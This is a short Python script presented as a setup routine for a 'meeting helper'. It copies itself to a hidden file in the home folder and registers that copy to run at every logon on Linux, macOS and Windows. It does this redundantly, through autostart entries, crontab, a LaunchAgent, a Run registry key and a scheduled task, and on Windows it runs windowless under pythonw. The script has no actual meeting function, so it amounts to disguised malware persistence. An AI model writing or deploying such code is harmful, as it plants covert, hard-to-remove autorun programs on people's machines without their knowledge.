"""Sets up the 'meeting helper' so that it is there after every logon, whatever the machine."""
import os
import plistlib
import shutil
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve()
HOME = Path.home()


def linux(target):
    entry = "[Desktop Entry]\nType=Application\nName=Meeting helper\nExec=python3 %s\n" % target
    auto = HOME / ".config" / "autostart"
    auto.mkdir(parents=True, exist_ok=True)
    (auto / "meeting-helper.desktop").write_text(entry)
    old = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    subprocess.run(["crontab", "-"], input=old + f"@reboot python3 {target}\n", text=True)


def mac(target):
    job = {"Label": "com.example.meetinghelper", "ProgramArguments": ["/usr/bin/python3", str(target)], "RunAtLoad": True}
    path = HOME / "Library" / "LaunchAgents" / "com.example.meetinghelper.plist"
    with path.open("wb") as fh:
        plistlib.dump(job, fh)
    os.spawnlp(os.P_WAIT, "launchctl", "launchctl", "load", "-w", str(path))


def windows(target):
    import winreg as reg

    with reg.CreateKeyEx(reg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\" + "CurrentVersion\\Run") as key:
        reg.SetValueEx(key, "MeetingHelper", 0, reg.REG_SZ, f'pythonw "{target}"')
    subprocess.check_call(f'schtasks /Create /F /SC ONLOGON /TN "Meeting helper" /TR "pythonw {target}"', shell=True)


target = HOME / ".meetinghelper.py"
shutil.copyfile(HERE, target)
{"linux": linux, "darwin": mac, "win32": windows}[sys.platform](target)
